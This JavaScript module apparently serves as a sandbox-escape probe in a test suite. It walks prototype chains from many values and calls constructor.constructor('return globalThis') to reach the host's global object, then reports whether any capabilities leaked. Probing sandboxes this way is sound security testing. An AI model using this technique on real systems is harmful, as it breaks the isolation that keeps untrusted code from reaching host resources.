/** Walks from literals to constructors, to reach globals of the host. */
import { powers } from './powers.js';

export async function execute(params) {
  const starts = [
    {},
    [],
    '',
    1,
    /x/,
    () => {},
    async () => {},
    function* () {},
    async function* () {},
    new Map(),
    new Error('x'),
    fetch,
    console.log,
    setTimeout,
    URL,
    process.env,
    params,
  ];
  const found = [];
  for (const start of starts) {
    for (let at = start, left = 20; at !== null && at !== undefined && left > 0; left--) {
      try {
        found.push(...powers(at.constructor?.constructor?.('return globalThis')()));
      } catch {}
      at = Object.getPrototypeOf(at);
    }
  }
  return { succeeded: found.length > 0, evidence: found.join() };
}
